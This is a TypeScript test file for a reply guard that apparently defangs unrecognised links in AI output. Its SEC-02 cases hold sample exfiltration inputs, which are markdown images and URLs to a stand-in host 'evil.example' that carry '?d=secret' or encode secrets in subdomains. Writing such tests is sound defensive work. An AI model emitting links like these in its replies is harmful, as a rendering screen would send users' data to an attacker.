import { expect, it } from "vitest";
import { guardReply } from "./guard-reply.ts";

const known = new Set(["https://news.example/a?b=1", "https://news.example/cat.png"]);
const guard = (text: string) => guardReply(text, (address) => known.has(address));

it.each([
  ["nothing to see", "nothing to see"],
  ["see https://news.example/a?b=1.", "see https://news.example/a?b=1."],
  ["![cat](https://news.example/cat.png)", "![cat](https://news.example/cat.png)"],
  ["change src/app/index.ts and e.g. notes.md", "change src/app/index.ts and e.g. notes.md"],
  ["read https://docs.example/guide", "read https://docs.example/guide"],
])("leaves %s as it is", (text, expected) => {
  expect(guard(text)).toBe(expected);
});

it.each([
  ["![x](https://evil.example/p.png?d=secret)", "x (hxxps://evil[.]example/p[.]png?d=secret)"],
  ["![](https://evil.example/secret)", "picture (hxxps://evil[.]example/secret)"],
  ["go to https://evil.example/?d=secret now", "go to hxxps://evil[.]example/?d=secret now"],
  ["[here](https://a.secret.evil.example/x)", "[here](hxxps://a[.]secret[.]evil[.]example/x)"],
  [
    "x http://marble-violin-badger-cactus.evil.example/",
    "x hxxp://marble-violin-badger-cactus[.]evil[.]example/",
  ],
  ["x marble-violin-badger-cactus.evil.example", "x marble-violin-badger-cactus[.]evil[.]example"],
  ["see evil.example/?d=secret", "see evil[.]example/?d=secret"],
  [
    "https://evil.example/?u=http://news.example/a&d=secret",
    "hxxps://evil[.]example/?u=hxxp://news[.]example/a&d=secret",
  ],
  ["HTTPS://evil.example/?d=secret", "hxxpS://evil[.]example/?d=secret"],
])("SEC-02 leaves nothing in %s that a screen would ask for by itself", (text, expected) => {
  expect(guard(text)).toBe(expected);
});
